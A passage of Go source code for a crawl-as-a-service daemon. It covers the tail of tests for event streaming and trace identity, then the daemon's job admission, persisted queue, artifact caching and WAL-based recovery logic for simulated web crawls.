		t.Fatalf("replay after seq 2: %+v", replay)
	}
	h.publish(JobEvent{Type: "state", State: JobRunning})
	if ev := <-ch; ev.Seq != 6 || ev.Type != "state" {
		t.Fatalf("live event %+v", ev)
	}
	cancel()
	cancel() // idempotent

	// a slow subscriber loses events without blocking the publisher
	_, slow, slowCancel := h.subscribe(h.seq)
	defer slowCancel()
	for i := 0; i < subBuffer+10; i++ {
		h.publish(JobEvent{Type: "progress", Done: i})
	}
	if drops.Value() != 10 {
		t.Fatalf("drop counter = %d, want 10", drops.Value())
	}
	// the buffer still holds the first subBuffer events in order
	if ev := <-slow; ev.Type != "progress" {
		t.Fatalf("slow subscriber got %+v", ev)
	}

	// close ends every stream; subscribing afterwards yields replay + closed ch
	h.close()
	if _, ok := <-slow; ok {
		// drain until closed
		for range slow {
		}
	}
	replay2, ch2, cancel2 := h.subscribe(0)
	defer cancel2()
	if len(replay2) == 0 {
		t.Fatal("post-close subscribe lost the replay ring")
	}
	if _, ok := <-ch2; ok {
		t.Fatal("post-close subscribe channel not closed")
	}
	h.publish(JobEvent{Type: "state"}) // no-op, must not panic
}

func TestEventHubRingBound(t *testing.T) {
	h := newEventHub(telemetry.NewRegistry().Counter("drops"))
	for i := 0; i < hubReplay*2; i++ {
		h.publish(JobEvent{Type: "progress", Done: i})
	}
	replay, _, cancel := h.subscribe(0)
	defer cancel()
	if len(replay) != hubReplay {
		t.Fatalf("ring holds %d events, want %d", len(replay), hubReplay)
	}
	if replay[0].Seq != int64(hubReplay+1) {
		t.Fatalf("oldest retained seq %d, want %d", replay[0].Seq, hubReplay+1)
	}
}

// --- SSE streaming -----------------------------------------------------------

// sseEvent is one decoded frame off the wire.
type sseEvent struct {
	id    string
	event string
	data  JobEvent
}

func readSSE(t *testing.T, body *bufio.Scanner, out chan<- sseEvent) {
	t.Helper()
	var cur sseEvent
	for body.Scan() {
		line := body.Text()
		switch {
		case strings.HasPrefix(line, "id: "):
			cur.id = line[4:]
		case strings.HasPrefix(line, "event: "):
			cur.event = line[7:]
		case strings.HasPrefix(line, "data: "):
			if err := json.Unmarshal([]byte(line[6:]), &cur.data); err != nil {
				t.Errorf("bad SSE data %q: %v", line, err)
			}
		case line == "":
			out <- cur
			cur = sseEvent{}
		}
	}
	close(out)
}

func TestJobEventStreamSSE(t *testing.T) {
	d := openTest(t, t.TempDir(), telemetry.New())
	defer d.Drain()
	srv := httptest.NewServer(Handler(d))
	defer srv.Close()

	st, err := d.Submit(JobSpec{Kind: KindCrawl, NumSites: 6, MaxSubpages: 1}, "")
	if err != nil {
		t.Fatal(err)
	}
	res, err := http.Get(srv.URL + "/v1/jobs/" + st.ID + "/events")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if ct := res.Header.Get("Content-Type"); ct != "text/event-stream" {
		t.Fatalf("content type %q", ct)
	}

	events := make(chan sseEvent, 4096)
	go readSSE(t, bufio.NewScanner(res.Body), events)

	var states []JobState
	var progress, spans int
	deadline := time.After(120 * time.Second)
	for {
		select {
		case ev, ok := <-events:
			if !ok {
				// stream closed by the terminal state
				goto done
			}
			switch ev.event {
			case "state":
				states = append(states, ev.data.State)
			case "progress":
				progress++
			case "span":
				spans++
				if ev.data.Span == nil {
					t.Error("span event without payload")
				}
			}
		case <-deadline:
			t.Fatal("SSE stream never closed")
		}
	}
done:
	if len(states) == 0 || states[len(states)-1] != JobDone {
		t.Fatalf("states %v, want trailing %s", states, JobDone)
	}
	if progress == 0 {
		t.Error("no progress events streamed")
	}
	if spans == 0 {
		t.Error("no span events streamed")
	}

	// a consumer attaching after completion gets one terminal state event
	res2, err := http.Get(srv.URL + "/v1/jobs/" + st.ID + "/events")
	if err != nil {
		t.Fatal(err)
	}
	defer res2.Body.Close()
	late := make(chan sseEvent, 16)
	go readSSE(t, bufio.NewScanner(res2.Body), late)
	var lateEvents []sseEvent
	for ev := range late {
		lateEvents = append(lateEvents, ev)
	}
	if len(lateEvents) == 0 || lateEvents[0].data.State != JobDone {
		t.Fatalf("late subscriber events: %+v", lateEvents)
	}

	// unknown jobs 404
	res3, err := http.Get(srv.URL + "/v1/jobs/nope/events")
	if err != nil {
		t.Fatal(err)
	}
	if _, code := readAll(t, res3); code != http.StatusNotFound {
		t.Fatalf("unknown job stream returned %d", code)
	}
}

// --- trace artifacts ---------------------------------------------------------

// TestTraceArtifactIdentity is the observability acceptance path: a job's
// sealed trace must be byte-identical between a cold run, a warm cache hit
// after a restart, and a run interrupted by a drain and resumed from its WAL.
func TestTraceArtifactIdentity(t *testing.T) {
	spec := JobSpec{Kind: KindCrawl, NumSites: 40, MaxSubpages: 1}

	// cold reference run
	ref := openTest(t, t.TempDir(), telemetry.New())
	refSt, err := ref.Submit(spec, "")
	if err != nil {
		t.Fatal(err)
	}
	waitDone(t, ref, refSt.ID)
	refTrace, refMeta, ok := ref.Artifact(refSt.ID + traceSuffix)
	if !ok || len(refTrace) == 0 {
		t.Fatal("cold run sealed no trace artifact")
	}
	if refMeta.Kind != "trace" || refMeta.ContentType != "application/x-ndjson" {
		t.Fatalf("trace meta %+v", refMeta)
	}
	ref.Drain()

	// warm hit: restart over the same dir, resubmit, read the cached trace
	dir := t.TempDir()
	d1 := openTest(t, dir, telemetry.New())
	st, err := d1.Submit(spec, "")
	if err != nil {
		t.Fatal(err)
	}
	waitDone(t, d1, st.ID)
	d1.Drain()
	d2 := openTest(t, dir, telemetry.New())
	warm, err := d2.Submit(spec, "")
	if err != nil {
		t.Fatal(err)
	}
	if !warm.Cached {
		t.Fatalf("restarted submit missed the cache: %+v", warm)
	}
	warmTrace, _, ok := d2.Artifact(st.ID + traceSuffix)
	if !ok {
		t.Fatal("warm hit lost the trace artifact")
	}
	if !bytes.Equal(warmTrace, refTrace) {
		t.Fatal("warm-hit trace differs from the cold run's")
	}
	srv := httptest.NewServer(Handler(d2))
	res, err := http.Get(srv.URL + "/v1/jobs/" + st.ID + "/trace")
	if err != nil {
		t.Fatal(err)
	}
	body, code := readAll(t, res)
	if code != http.StatusOK || body != string(refTrace) {
		t.Fatalf("GET trace: code %d, %d bytes (want %d)", code, len(body), len(refTrace))
	}
	if res.Header.Get("X-Artifact-Digest") != refMeta.Digest {
		t.Fatalf("trace digest header %q, want %q", res.Header.Get("X-Artifact-Digest"), refMeta.Digest)
	}
	srv.Close()
	d2.Drain()

	// interrupted run: drain mid-crawl, restart, recover from the WAL
	dir3 := t.TempDir()
	tel := telemetry.New()
	d3 := openTest(t, dir3, tel)
	st3, err := d3.Submit(spec, "")
	if err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(120 * time.Second)
	for tel.Snapshot().Gauges["crawl_progress_done"] < 2 {
		if time.Now().After(deadline) {
			t.Fatal("crawl never started")
		}
		time.Sleep(5 * time.Millisecond)
	}
	d3.Drain()
	d4 := openTest(t, dir3, telemetry.New())
	defer d4.Drain()
	done := waitDone(t, d4, st3.ID)
	if done.State != JobDone {
		t.Fatalf("recovered job finished as %+v", done)
	}
	recTrace, _, ok := d4.Artifact(st3.ID + traceSuffix)
	if !ok {
		t.Fatal("recovered run sealed no trace artifact")
	}
	if !bytes.Equal(recTrace, refTrace) {
		t.Fatal("drain/restart-recovered trace differs from the cold run's")
	}
}

// TestReplayJobSealsTrace checks the replay execution path also records and
// seals a span trace next to its verdict artifact.
func TestReplayJobSealsTrace(t *testing.T) {
	d := openTest(t, t.TempDir(), telemetry.New())
	defer d.Drain()
	rec, err := d.Submit(smallCrawl, "")
	if err != nil {
		t.Fatal(err)
	}
	if st := waitDone(t, d, rec.ID); st.State != JobDone {
		t.Fatalf("record job: %+v", st)
	}
	rep, err := d.Submit(JobSpec{Kind: KindReplay, Source: rec.ID, Variant: "none"}, "")
	if err != nil {
		t.Fatal(err)
	}
	if st := waitDone(t, d, rep.ID); st.State != JobDone {
		t.Fatalf("replay job: %+v", st)
	}
	data, meta, ok := d.Artifact(rep.ID + traceSuffix)
	if !ok || len(data) == 0 || meta.Kind != "trace" {
		t.Fatalf("replay trace artifact: ok=%v meta=%+v", ok, meta)
	}
}
