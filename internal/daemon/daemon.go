package daemon

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"

	"gullible/internal/bundle"
	"gullible/internal/experiments"
	"gullible/internal/faults"
	"gullible/internal/openwpm"
	"gullible/internal/sched"
	"gullible/internal/telemetry"
	"gullible/internal/trace"
	"gullible/internal/wal"
	"gullible/internal/websim"
)

// Config configures one daemon instance.
type Config struct {
	// Dir is the state root: cache/ (artifact LRU), queue/ (persisted
	// pending job specs) and jobs/ (per-job WAL shard logs) live under it.
	Dir string
	// CacheBytes is the artifact cache's byte budget (default 256 MiB;
	// negative = unbudgeted).
	CacheBytes int64
	// QueueDepth bounds the number of queued jobs (default 64; negative =
	// unbounded). A full queue rejects with ErrQueueFull.
	QueueDepth int
	// TenantBudget bounds one tenant's in-flight cost in sites (default
	// 50000; negative = unlimited). An exhausted budget rejects with
	// ErrTenantBudget while other tenants keep being admitted.
	TenantBudget int64
	// Executors is the number of concurrent job runners (default 2).
	Executors int
	// CrawlWorkers is the sched worker count inside one crawl job (default
	// 1; 0 is normalised to 1 so the shard layout — and therefore WAL
	// recovery — does not depend on the machine the daemon restarts on).
	CrawlWorkers int
	// Fsync is the WAL sync policy for crawl jobs (default checkpoint).
	Fsync wal.SyncPolicy
	// RetryAfterSeconds is the advisory backoff returned with 429 responses
	// (default 5).
	RetryAfterSeconds int
	// Telemetry instruments the daemon and every job it runs; /metrics
	// renders its snapshots. Nil disables instrumentation (every call is
	// nil-safe).
	Telemetry *telemetry.Telemetry
	// EnablePprof mounts net/http/pprof under /debug/pprof/ on the API
	// handler. Off by default: the profiling surface leaks heap contents and
	// must be opted into per deployment.
	EnablePprof bool
	// NowNanos is a monotonic wall-clock source for HTTP request latency
	// histograms. The daemon itself never reads the wall clock (crawl time
	// is virtual and the wpmlint wallclock rule bans time.Now in internal
	// packages); the binary injects one. Nil disables latency observation —
	// request counters and in-flight gauges still work.
	NowNanos func() int64
}

func (c Config) withDefaults() Config {
	if c.CacheBytes == 0 {
		c.CacheBytes = 256 << 20
	}
	if c.QueueDepth == 0 {
		c.QueueDepth = 64
	}
	if c.TenantBudget == 0 {
		c.TenantBudget = 50000
	}
	if c.Executors <= 0 {
		c.Executors = 2
	}
	if c.CrawlWorkers <= 0 {
		c.CrawlWorkers = 1
	}
	if c.RetryAfterSeconds <= 0 {
		c.RetryAfterSeconds = 5
	}
	return c
}

// JobState is a job's lifecycle position.
type JobState string

const (
	// JobQueued: admitted, persisted, waiting for an executor.
	JobQueued JobState = "queued"
	// JobRunning: an executor is crawling/replaying.
	JobRunning JobState = "running"
	// JobDone: artifact sealed into the cache.
	JobDone JobState = "done"
	// JobFailed: execution errored; the spec is no longer queued.
	JobFailed JobState = "failed"
	// JobInterrupted: drain checkpointed the job mid-crawl; its WAL is
	// sealed and the next daemon start recovers and finishes it.
	JobInterrupted JobState = "interrupted"
)

// Job is one admitted job. Identity is the content address; two submissions
// of the same canonical spec share one Job (and, once sealed, one cache
// entry forever).
type Job struct {
	Addr   string
	Spec   JobSpec
	Tenant string
	Cost   int64
	Seq    uint64 // admission order, persisted so restarts replay FIFO

	// events streams state transitions, crawl progress and span events to
	// SSE subscribers; see eventHub.
	events *eventHub

	mu     sync.Mutex
	state  JobState
	err    string
	digest string
	done   chan struct{}
}

func (j *Job) setState(s JobState) {
	j.mu.Lock()
	j.state = s
	j.mu.Unlock()
	j.events.publish(stateEvent(j.Status()))
}

func (j *Job) finish(s JobState, digest, errMsg string) {
	j.mu.Lock()
	j.state, j.digest, j.err = s, digest, errMsg
	select {
	case <-j.done:
	default:
		close(j.done)
	}
	j.mu.Unlock()
	j.events.publish(stateEvent(j.Status()))
	j.events.close()
}

// Done is closed when the job reaches a terminal state in this process
// (done, failed or interrupted).
func (j *Job) Done() <-chan struct{} { return j.done }

// JobStatus is the JSON-serialisable snapshot of a job.
type JobStatus struct {
	ID     string   `json:"id"`
	Kind   string   `json:"kind"`
	State  JobState `json:"state"`
	Tenant string   `json:"tenant,omitempty"`
	Cost   int64    `json:"cost"`
	Digest string   `json:"digest,omitempty"`
	Error  string   `json:"error,omitempty"`
	// Cached is set on submissions answered from the artifact cache
	// without queueing anything.
	Cached bool `json:"cached,omitempty"`
}

// Status snapshots the job.
func (j *Job) Status() JobStatus {
	j.mu.Lock()
	defer j.mu.Unlock()
	return JobStatus{
		ID: j.Addr, Kind: j.Spec.Kind, State: j.state,
		Tenant: j.Tenant, Cost: j.Cost, Digest: j.digest, Error: j.err,
	}
}

// queueRec is the persisted form of a pending job: everything a restarted
// daemon needs to re-admit it in order.
type queueRec struct {
	Seq    uint64  `json:"seq"`
	Tenant string  `json:"tenant,omitempty"`
	Spec   JobSpec `json:"spec"`
}

// Daemon is the crawl-as-a-service core: admission, execution, caching,
// drain and recovery. The HTTP layer in http.go is a thin shell over it.
type Daemon struct {
	cfg   Config
	tel   *telemetry.Telemetry
	cache *Cache
	queue *Queue

	stop chan struct{} // closed by Drain; every in-flight crawl watches it
	wg   sync.WaitGroup

	mu        sync.Mutex
	jobs      map[string]*Job
	submitSeq uint64
	draining  bool
}

// Open builds a daemon over cfg.Dir: the artifact cache index is rebuilt
// from disk, persisted queue entries are re-admitted in their original
// order (jobs with sealed WAL shards will resume from their checkpoints when
// an executor picks them up), orphaned job WALs are swept, and the executor
// pool starts.
func Open(cfg Config) (*Daemon, error) {
	cfg = cfg.withDefaults()
	if cfg.Dir == "" {
		return nil, fmt.Errorf("daemon: Config.Dir is required")
	}
	for _, sub := range []string{"queue", "jobs"} {
		if err := os.MkdirAll(filepath.Join(cfg.Dir, sub), 0o755); err != nil {
			return nil, fmt.Errorf("daemon: open: %w", err)
		}
	}
	cache, err := OpenCache(filepath.Join(cfg.Dir, "cache"), cfg.CacheBytes, cfg.Telemetry)
	if err != nil {
		return nil, err
	}
	d := &Daemon{
		cfg:   cfg,
		tel:   cfg.Telemetry,
		cache: cache,
		queue: NewQueue(cfg.QueueDepth, cfg.TenantBudget),
		stop:  make(chan struct{}),
		jobs:  map[string]*Job{},
	}
	if err := d.recoverPersisted(); err != nil {
		return nil, err
	}
	for i := 0; i < cfg.Executors; i++ {
		d.wg.Add(1)
		go d.executor()
	}
	return d, nil
}

// recoverPersisted reloads the persisted queue (FIFO by admission seq),
// force-admitting each job past the depth/budget checks it already passed in
// a previous process, and sweeps job WAL directories that no longer have a
// pending spec (completed jobs whose cleanup was cut short).
func (d *Daemon) recoverPersisted() error {
	qdir := filepath.Join(d.cfg.Dir, "queue")
	ents, err := os.ReadDir(qdir)
	if err != nil {
		return fmt.Errorf("daemon: recover queue: %w", err)
	}
	var recs []queueRec
	for _, e := range ents {
		if e.IsDir() || !strings.HasSuffix(e.Name(), ".json") {
			continue
		}
		data, err := os.ReadFile(filepath.Join(qdir, e.Name()))
		if err != nil {
			continue
		}
		var rec queueRec
		if json.Unmarshal(data, &rec) != nil {
			// undecodable spec: drop the file; a failed remove only leaves
			// it to be re-rejected on the next recovery pass
			_ = os.Remove(filepath.Join(qdir, e.Name()))
			continue
		}
		addr, canon, err := ContentAddress(rec.Spec)
		if err != nil || addr != strings.TrimSuffix(e.Name(), ".json") {
			// the spec no longer canonicalises onto its file name: stale
			// format or tampered state — drop it rather than run the wrong job
			_ = os.Remove(filepath.Join(qdir, e.Name()))
			continue
		}
		rec.Spec = canon
		recs = append(recs, rec)
	}
	sort.Slice(recs, func(i, j int) bool { return recs[i].Seq < recs[j].Seq })
	// New has not started the executors yet, but submitSeq and the jobs map
	// are mu-guarded everywhere else; recovery holds the lock too so every
	// write site agrees on the discipline (and stays correct if recovery is
	// ever re-run on a live daemon).
	d.mu.Lock()
	defer d.mu.Unlock()
	for _, rec := range recs {
		addr, _, _ := ContentAddress(rec.Spec)
		if rec.Seq > d.submitSeq {
			d.submitSeq = rec.Seq
		}
		if d.cache.Contains(addr) {
			// completed by a previous process that died before cleanup
			d.removePersisted(addr)
			continue
		}
		j := &Job{
			Addr: addr, Spec: rec.Spec, Tenant: rec.Tenant,
			Cost: Cost(rec.Spec), Seq: rec.Seq,
			state: JobQueued, done: make(chan struct{}),
			events: newEventHub(d.tel.Counter("daemon_event_drops_total")),
		}
		if err := d.queue.Admit(j, true); err != nil {
			return err
		}
		d.jobs[addr] = j
		d.tel.Counter("daemon_jobs_recovered_total").Inc()
	}
	// sweep WAL directories with no pending spec
	jdirRoot := filepath.Join(d.cfg.Dir, "jobs")
	jents, err := os.ReadDir(jdirRoot)
	if err != nil {
		return fmt.Errorf("daemon: sweep jobs: %w", err)
	}
	for _, e := range jents {
		if !e.IsDir() {
			continue
		}
		if _, ok := d.jobs[e.Name()]; !ok {
			// best-effort sweep: a WAL dir that survives is re-swept on the
			// next start and can never be served (no pending spec points at it)
			_ = os.RemoveAll(filepath.Join(jdirRoot, e.Name()))
		}
	}
	d.tel.Gauge("daemon_queue_depth").Set(int64(d.queue.Depth()))
	return nil
}

// Draining reports whether Drain has begun.
func (d *Daemon) Draining() bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.draining
}

// Submit admits a job (or answers it from the cache). The returned status is
// what POST /v1/jobs serialises: state done + Cached for a cache hit, queued
// for a fresh admission, or the current state of an already-known job.
// Admission failures return ErrQueueFull or ErrTenantBudget.
func (d *Daemon) Submit(spec JobSpec, tenant string) (JobStatus, error) {
	addr, canon, err := ContentAddress(spec)
	if err != nil {
		return JobStatus{}, err
	}
	d.tel.Counter("daemon_jobs_submitted_total").Inc()

	// the cache answers first: deterministic jobs make sealed artifacts
	// valid forever, so a hit needs no admission, no queue, no crawl
	if meta, ok := d.cache.Touch(addr); ok {
		d.tel.Counter("daemon_cache_hits_total").Inc()
		return JobStatus{
			ID: addr, Kind: canon.Kind, State: JobDone,
			Digest: meta.Digest, Cached: true, Cost: Cost(canon),
		}, nil
	}
	d.tel.Counter("daemon_cache_misses_total").Inc()

	if canon.Kind == KindReplay && !d.cache.Contains(canon.Source) {
		return JobStatus{}, fmt.Errorf("daemon: replay source %s is not in the cache — submit the source job first", canon.Source)
	}

	d.mu.Lock()
	if d.draining {
		d.mu.Unlock()
		return JobStatus{}, fmt.Errorf("daemon: draining, not accepting jobs")
	}
	if j, ok := d.jobs[addr]; ok {
		// identical request already in flight: coalesce onto it
		d.mu.Unlock()
		d.tel.Counter("daemon_jobs_coalesced_total").Inc()
		return j.Status(), nil
	}
	d.submitSeq++
	j := &Job{
		Addr: addr, Spec: canon, Tenant: tenant, Cost: Cost(canon),
		Seq: d.submitSeq, state: JobQueued, done: make(chan struct{}),
		events: newEventHub(d.tel.Counter("daemon_event_drops_total")),
	}
	d.mu.Unlock()

	if err := d.queue.Admit(j, false); err != nil {
		d.tel.Counter("daemon_jobs_rejected_total", telemetry.L("reason", rejectReason(err))).Inc()
		return JobStatus{}, err
	}
	if err := d.persistQueued(j); err != nil {
		// a job we cannot persist would vanish on restart; refuse it
		d.queue.Release(j)
		return JobStatus{}, err
	}
	d.mu.Lock()
	d.jobs[addr] = j
	d.mu.Unlock()
	d.tel.Gauge("daemon_queue_depth").Set(int64(d.queue.Depth()))
	return j.Status(), nil
}

func rejectReason(err error) string {
	if err == ErrTenantBudget {
		return "tenant"
	}
	return "queue"
}

// persistQueued writes the job's spec to queue/<addr>.json so a killed
// daemon re-admits it on restart.
func (d *Daemon) persistQueued(j *Job) error {
	data, err := json.Marshal(queueRec{Seq: j.Seq, Tenant: j.Tenant, Spec: j.Spec})
	if err != nil {
		return err
	}
	path := filepath.Join(d.cfg.Dir, "queue", j.Addr+".json")
	if err := os.WriteFile(path, append(data, '\n'), 0o644); err != nil {
		return fmt.Errorf("daemon: persist job: %w", err)
	}
	return nil
}

// removePersisted deletes a job's queue spec and WAL directory. Cleanup is
// best-effort: leftovers are swept by the next recovery pass, and a recovered
// job whose artifact is already cached is simply dropped again.
func (d *Daemon) removePersisted(addr string) {
	_ = os.Remove(filepath.Join(d.cfg.Dir, "queue", addr+".json")) // see above
	_ = os.RemoveAll(filepath.Join(d.cfg.Dir, "jobs", addr))       // see above
}

// JobStatusFor returns the status of a known or cached job. Jobs that
// completed in an earlier process exist only as cache entries; they report
// state done.
func (d *Daemon) JobStatusFor(addr string) (JobStatus, bool) {
	d.mu.Lock()
	j, ok := d.jobs[addr]
	d.mu.Unlock()
	if ok {
		return j.Status(), true
	}
	if meta, ok := d.cache.Peek(addr); ok {
		return JobStatus{ID: addr, Kind: meta.Kind, State: JobDone, Digest: meta.Digest, Cached: true}, true
	}
	return JobStatus{}, false
}

// Artifact returns a completed job's sealed artifact bytes and meta.
func (d *Daemon) Artifact(addr string) ([]byte, ArtifactMeta, bool) {
	return d.cache.Get(addr)
}

// Job returns the live job for addr, if this process knows it.
func (d *Daemon) Job(addr string) (*Job, bool) {
	d.mu.Lock()
	defer d.mu.Unlock()
	j, ok := d.jobs[addr]
	return j, ok
}

// Drain stops the daemon cooperatively: admission closes, queued jobs stay
// persisted for the next start, and every in-flight crawl checkpoints at its
// next site boundary and seals its WAL. Drain blocks until the executor pool
// has exited and returns the number of jobs it interrupted mid-run.
func (d *Daemon) Drain() int {
	d.mu.Lock()
	already := d.draining
	d.draining = true
	d.mu.Unlock()
	if !already {
		close(d.stop)
		d.queue.Close()
	}
	d.wg.Wait()

	interrupted := 0
	d.mu.Lock()
	for _, j := range d.jobs {
		if j.Status().State == JobInterrupted {
			interrupted++
		}
	}
	d.mu.Unlock()
	return interrupted
}

// executor is one worker: it pulls admitted jobs until the queue closes.
func (d *Daemon) executor() {
	defer d.wg.Done()
	for {
		j, ok := d.queue.Next()
		if !ok {
			return
		}
		d.tel.Gauge("daemon_queue_depth").Set(int64(d.queue.Depth()))
		if d.Draining() {
			// picked up during the drain race window: leave it persisted
			continue
		}
		d.run(j)
	}
}

// run executes one job to a terminal state.
func (d *Daemon) run(j *Job) {
	if d.cache.Contains(j.Addr) {
		// completed by an earlier process that died between sealing the
		// artifact and cleaning up its queue entry
		meta, _ := d.cache.Peek(j.Addr)
		d.removePersisted(j.Addr)
		d.queue.Release(j)
		j.finish(JobDone, meta.Digest, "")
		return
	}
	j.setState(JobRunning)
	running := d.tel.Gauge("daemon_jobs_running")
	running.Add(1)
	defer running.Add(-1)

	artifact, meta, interrupted, err := d.execute(j)
	switch {
	case interrupted:
		// drain checkpointed the crawl; the WAL is sealed and the queue
		// spec stays — the next daemon start recovers and finishes it
		d.tel.Counter("daemon_jobs_interrupted_total").Inc()
		j.finish(JobInterrupted, "", "")
	case err != nil:
		d.tel.Counter("daemon_jobs_failed_total").Inc()
		d.removePersisted(j.Addr)
		d.queue.Release(j)
		j.finish(JobFailed, "", err.Error())
	default:
		if perr := d.cache.Put(j.Addr, artifact, meta); perr != nil {
			d.tel.Counter("daemon_jobs_failed_total").Inc()
			d.removePersisted(j.Addr)
			d.queue.Release(j)
			j.finish(JobFailed, "", perr.Error())
			return
		}
		d.tel.Counter("daemon_jobs_completed_total", telemetry.L("kind", j.Spec.Kind)).Inc()
		d.removePersisted(j.Addr)
		d.queue.Release(j)
		j.finish(JobDone, meta.Digest, "")
	}
}

// execute dispatches a job to its kind's implementation.
func (d *Daemon) execute(j *Job) (artifact []byte, meta ArtifactMeta, interrupted bool, err error) {
	switch j.Spec.Kind {
	case KindCrawl:
		return d.executeCrawl(j)
	case KindReplay:
		artifact, meta, err = d.executeReplay(j)
	case KindDiff:
		artifact, meta, err = d.executeDiff(j)
	case KindAgreement:
		artifact, meta, err = d.executeAgreement(j)
	default:
		err = fmt.Errorf("daemon: unknown job kind %q", j.Spec.Kind)
	}
	return artifact, meta, false, err
}

// faultProfile resolves a canonical spec's fault profile.
func faultProfile(name string) *faults.Profile {
	switch name {
	case "default":
		p := faults.DefaultProfile()
		return &p
	case "heavy":
		p := faults.HeavyProfile()
		return &p
	}
	return nil
}

// bundleMeta labels a job's recorded bundle. Deterministic content only —
// derived from the canonical spec, so an interrupted-and-recovered run seals
// the same manifest as a cold one.
func bundleMeta(j *Job) map[string]string {
	return map[string]string{
		"tool":      "wpmd",
		"job":       j.Addr,
		"worldSeed": fmt.Sprint(j.Spec.Seed),
		"faults":    j.Spec.Faults,
	}
}

// executeCrawl runs a crawl job through the scheduler with per-shard WAL
// backends under jobs/<addr>/. A fresh run opens new logs; a run whose WAL
// directory already exists (the daemon was killed or drained mid-job)
// recovers the checkpoint from the logs and resumes — determinism makes the
// finished artifact byte-identical either way.
func (d *Daemon) executeCrawl(j *Job) ([]byte, ArtifactMeta, bool, error) {
	spec := j.Spec
	jdir := filepath.Join(d.cfg.Dir, "jobs", j.Addr)
	walOpts := wal.Options{Sync: d.cfg.Fsync, Telemetry: d.tel}
	meta := bundleMeta(j)

	opts := experiments.ScanOptions{
		Sites:           spec.Sites,
		MaxSubpages:     spec.MaxSubpages,
		Workers:         d.cfg.CrawlWorkers,
		MaxVisitSeconds: spec.MaxVisitSeconds,
		FaultSeed:       spec.FaultSeed,
		FaultProfile:    faultProfile(spec.Faults),
		RecordBundle:    true,
		BundleMeta:      meta,
		Telemetry:       d.tel,
		// the daemon's registry lives as long as the process; embedding its
		// snapshot would make otherwise-identical bundles digest-diverge, so
		// the sealed artifact carries no metrics and /metrics serves them
		DetachMetrics: true,
		Stop:          d.stop,
	}
	if d.tel.Enabled() {
		// live span streaming to SSE subscribers; the tap runs under the
		// shard recorder's lock, and publish is non-blocking by design
		opts.SpanTap = func(shard int, ev telemetry.SpanEvent) {
			span := ev
			j.events.publish(JobEvent{Type: "span", Shard: shard, Span: &span})
		}
	}
	if fss, lerr := sched.ListShardFSs(jdir); lerr == nil {
		// sealed shard logs exist: recover their checkpoint and resume
		cp, _, rerr := sched.Recover(fss, walOpts)
		if rerr != nil {
			return nil, ArtifactMeta{}, false, fmt.Errorf("daemon: recover job %s: %w", j.Addr, rerr)
		}
		opts.Resume = cp
		opts.Workers = cp.Workers
		// a shard whose log lost even its metadata record restarts from
		// scratch; the factory reopens a fresh durable log for it (recovered
		// shards keep their continuation backends and never hit the factory)
		opts.Backend = sched.WALBackend(sched.ShardDirFS(jdir), cp.Workers, true, meta, walOpts)
	} else {
		eff := sched.Workers(d.cfg.CrawlWorkers, len(spec.Sites))
		opts.Backend = sched.WALBackend(sched.ShardDirFS(jdir), eff, true, meta, walOpts)
	}

	world := websim.New(websim.Options{Seed: spec.Seed, NumSites: spec.NumSites})
	r, err := experiments.RunScanObserved(world, spec.NumSites, opts,
		experiments.ProgressFunc(func(done, total int) {
			j.events.publish(JobEvent{Type: "progress", Done: done, Total: total})
		}))
	if err != nil {
		return nil, ArtifactMeta{}, false, err
	}
	if r.Interrupted {
		if r.Checkpoint != nil {
			if cerr := r.Checkpoint.CloseBackends(); cerr != nil && d.tel.Enabled() {
				d.tel.Event(telemetry.LevelWarn, "wpmd-seal-failed", 0,
					telemetry.L("job", j.Addr), telemetry.L("error", cerr.Error()))
			}
		}
		return nil, ArtifactMeta{}, true, nil
	}
	if r.Checkpoint != nil {
		if cerr := r.Checkpoint.CloseBackends(); cerr != nil {
			return nil, ArtifactMeta{}, false, fmt.Errorf("daemon: seal job %s WAL: %w", j.Addr, cerr)
		}
	}
	if r.Bundle == nil {
		return nil, ArtifactMeta{}, false, fmt.Errorf("daemon: crawl job %s produced no bundle", j.Addr)
	}
	artifact, err := r.Bundle.Marshal()
	if err != nil {
		return nil, ArtifactMeta{}, false, err
	}
	if err := d.sealTrace(j, r.Trace); err != nil {
		return nil, ArtifactMeta{}, false, err
	}
	return artifact, ArtifactMeta{Kind: spec.Kind, Digest: r.Bundle.Digest, ContentType: "application/json"}, false, nil
}

// traceSuffix derives a job's trace-artifact cache address from its content
// address: the merged span trace is a second sealed artifact riding next to
// the bundle, served at GET /v1/jobs/{id}/trace and surviving warm cache
// hits exactly like the bundle does.
const traceSuffix = "-trace"

// sealTrace wraps a completed job's merged crawl trace in the job/phase
// envelope and seals it into the cache. Traces are pure functions of the
// crawl's virtual execution, so the sealed bytes are identical whether the
// job ran cold, resumed from a drain checkpoint, or replayed.
func (d *Daemon) sealTrace(j *Job, events []telemetry.SpanEvent) error {
	if len(events) == 0 {
		return nil
	}
	jobTrace := trace.Job(events, telemetry.L("job", j.Addr), telemetry.L("kind", j.Spec.Kind))
	var buf bytes.Buffer
	if err := telemetry.WriteTrace(&buf, jobTrace); err != nil {
		return fmt.Errorf("daemon: seal job %s trace: %w", j.Addr, err)
	}
	sum := sha256.Sum256(buf.Bytes())
	return d.cache.Put(j.Addr+traceSuffix, buf.Bytes(), ArtifactMeta{
		Kind: "trace", Digest: hex.EncodeToString(sum[:]), ContentType: "application/x-ndjson",
	})
}

// executeReplay re-executes a cached bundle under a variant observer and
// seals the replayed crawl as a new bundle.
func (d *Daemon) executeReplay(j *Job) ([]byte, ArtifactMeta, error) {
	spec := j.Spec
	data, _, ok := d.cache.Get(spec.Source)
	if !ok {
		return nil, ArtifactMeta{}, fmt.Errorf("daemon: replay source %s is not in the cache (evicted?) — resubmit the source job", spec.Source)
	}
	src, err := bundle.Unmarshal(data)
	if err != nil {
		return nil, ArtifactMeta{}, fmt.Errorf("daemon: replay source %s: %w", spec.Source, err)
	}
	policy, err := bundle.ParseMissPolicy(spec.Miss)
	if err != nil {
		return nil, ArtifactMeta{}, err
	}
	var mut func(*openwpm.CrawlConfig)
	if spec.Variant != "none" {
		m, err := experiments.VariantMutator(spec.Variant)
		if err != nil {
			return nil, ArtifactMeta{}, err
		}
		mut = m
	}
	rec := bundle.NewRecorder(bundleMeta(j))
	// the replay gets its own flight recorder (shared-flight span streams
	// would interleave across concurrent executors) but shares the daemon's
